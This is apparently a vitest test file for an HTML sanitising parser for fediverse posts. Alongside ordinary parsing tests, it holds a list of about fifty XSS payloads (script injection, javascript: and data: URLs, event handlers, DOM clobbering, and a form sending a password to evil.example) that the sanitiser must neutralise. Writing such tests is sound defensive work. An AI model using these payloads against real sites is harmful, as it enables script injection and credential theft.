import { describe, expect, it } from 'vitest';
import { parse, safeAddress, withEmojis } from './parse.ts';
import { plain, type Block, type Inline } from './tree.ts';

const text = (html: string) => plain(parse(html));

/** Every address that a tree would make the page ask for or lead to. */
function addresses(blocks: readonly Block[]): string[] {
  const inline = (content: readonly Inline[]): string[] =>
    content.flatMap((node) => {
      if (node.kind === 'text' || node.kind === 'break') return [];
      if (node.kind === 'emoji') return [node.url, node.staticUrl];
      return [...(node.kind === 'link' ? [node.href] : []), ...inline(node.children)];
    });
  return blocks.flatMap((block) => {
    if (block.kind === 'paragraph') return inline(block.children);
    if (block.kind === 'quote') return addresses(block.children);
    return block.kind === 'list' ? block.items.flatMap(addresses) : [];
  });
}

describe('parse', () => {
  it('reads what GoToSocial writes', () => {
    const html =
      '<p>Hello <span class="h-card"><a href="https://example.org/@bob" class="u-url mention" rel="nofollow">@<span>bob</span></a></span>' +
      ' see <a href="https://example.org/tags/cats" class="mention hashtag" rel="tag">#<span>Cats</span></a><br>second line</p>' +
      '<blockquote><p>quoted</p></blockquote><ul><li>one</li><li>two <b>bold</b></li></ul><pre><code>a &lt; b\n  c</code></pre>';
    expect(
      parse(html, { mentions: [{ acct: 'bob', url: 'https://example.org/@bob' }], tags: [{ name: 'cats', url: 'x' }] }),
    ).toEqual([
      {
        kind: 'paragraph',
        children: [
          { kind: 'text', text: 'Hello ' },
          { kind: 'mention', acct: 'bob', children: [{ kind: 'text', text: '@' }, { kind: 'text', text: 'bob' }] },
          { kind: 'text', text: ' see ' },
          { kind: 'hashtag', name: 'Cats', children: [{ kind: 'text', text: '#' }, { kind: 'text', text: 'Cats' }] },
          { kind: 'break' },
          { kind: 'text', text: 'second line' },
        ],
      },
      { kind: 'quote', children: [{ kind: 'paragraph', children: [{ kind: 'text', text: 'quoted' }] }] },
      {
        kind: 'list',
        ordered: false,
        start: 1,
        items: [
          [{ kind: 'paragraph', children: [{ kind: 'text', text: 'one' }] }],
          [
            {
              kind: 'paragraph',
              children: [
                { kind: 'text', text: 'two ' },
                { kind: 'mark', as: 'strong', children: [{ kind: 'text', text: 'bold' }] },
              ],
            },
          ],
        ],
      },
      { kind: 'code', text: 'a < b\n  c' },
    ]);
  });

  it('shows an address as people read it', () => {
    const long = `https://www.example.org/${'a'.repeat(60)}`;
    expect(text(`<p><a href="${long}">${long}</a></p>`)).toBe(`example.org/${'a'.repeat(29)}…`);
    expect(
      text('<p><a href="https://a.org/b"><span class="invisible">https://</span><span class="ellipsis">a.org/b</span></a></p>'),
    ).toBe('a.org/b…');
    expect(text('<p><a href="https://evil.example">https://bank.example</a></p>')).toBe('https://bank.example');
  });

  it('numbers a list from where it begins', () => {
    const starts = ['<ol start="5">', '<ol start="-2">', '<ol start="many">', '<ol start="99999999999">', '<ol>'].map((list) => parse(`${list}<li>five</li></ol>`)[0]);
    expect(starts.map((block) => block?.kind === 'list' && block.start)).toEqual([5, -2, 1, 1, 1]);
  });

  it('reads a link to an unknown account as a link', () => {
    const [block] = parse('<p><a href="https://far.example/@eve" class="mention">@eve</a></p>');
    expect(block).toMatchObject({ children: [{ kind: 'link', href: 'https://far.example/@eve' }] });
  });

  it('puts custom emoji into text, but not into code', () => {
    const emojis = [{ shortcode: 'cat', url: 'https://e.org/cat.gif', staticUrl: 'https://e.org/cat.png' }];
    const blocks = parse('<p>a :cat: b :dog:</p><pre>:cat:</pre>', { emojis });
    expect(blocks[0]).toMatchObject({ children: [{ text: 'a ' }, { kind: 'emoji', shortcode: 'cat' }, { text: ' b :dog:' }] });
    expect(blocks[1]).toEqual({ kind: 'code', text: ':cat:' });
  });

  it.each([
    ['', ''],
    ['plain', 'plain'],
    ['<p>never closed', 'never closed'],
    ['<p>a</p></p></div><p>b</p>', 'a\nb'],
    ['<p>a  \n b</p>', 'a b'],
    ['a<br><br>b', 'a\n\nb'],
    ['<h1>Title</h1><p>text</p>', 'Title\ntext'],
    ['<ul><li>a<li>b</ul>', 'a\nb'],
    ['<p>1 < 2 & 3 > 2</p>', '1 < 2 & 3 > 2'],
    ['&amp;lt;script&amp;gt;', '&lt;script&gt;'],
    ['&#x1F600;&#128512;&bogus;&#0;&#xD800;', '😀😀&bogus;\ufffd\ufffd'],
    ['<!-- hidden --><p>shown<!-- --></p>', 'shown'],
    ['<p title="a > b">attribute</p>', 'attribute'],
    ['<p>open <', 'open <'],
    ['<table><tr><td>a</td></tr><tr><td>b</td></tr></table>', 'a\nb'],
  ])('reads %j as %j', (html, expected) => expect(text(html)).toBe(expected));

  it('does not sink in nesting or length', () => {
    expect(text(`${'<blockquote>'.repeat(5000)}deep`)).toBe('deep');
    const long = 'word '.repeat(10_000).trim();
    expect(text(`<p>${long}</p>`)).toBe(long);
    expect(text('<'.repeat(50_000)).length).toBeGreaterThan(0);
    expect(text('<a '.repeat(20_000))).toBe('');
  });
});

/** What is tried against those who show the HTML of others. None may run, load or lead anywhere but the web. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/app/settings">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href=https://ok.example/`onmouseover=alert(1)>x</a>',
  '<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css";*{color:red}</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '${alert(1)}{{alert(1)}}{@html "x"}',
  '<p id="app" name="location">clobber</p>',
  '<a id="location" href="https://ok.example">x</a>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<a href="https://ok.example\u202e/gpj.exe">x</a>',
];

describe('hostile HTML', () => {
  it.each(VECTORS)('does nothing: %s', (html) => {
    const blocks = parse(html, { emojis: [{ shortcode: 'x', url: 'javascript:alert(1)', staticUrl: 'javascript:alert(1)' }] });
    for (const address of addresses(blocks)) expect(address).toMatch(/^https?:\/\/(?:ok\.example)/);
    expect(JSON.stringify(blocks)).not.toMatch(/"on\w+":|"style":|"src":/);
  });

  it.each(['javascript:alert(1)', 'JAVASCRIPT:1', 'data:text/html,x', 'blob:x', '//x', '/x', '#x', '', 'https://', 'https://['])(
    'leads nowhere: %s',
    (href) => expect(safeAddress(href)).toBeNull(),
  );

  it('shows no emoji that is no picture of the web', () => {
    expect(withEmojis(':x:', [{ shortcode: 'x', url: 'javascript:alert(1)', staticUrl: '' }])).toEqual([
      { kind: 'text', text: ':x:' },
    ]);
  });
});
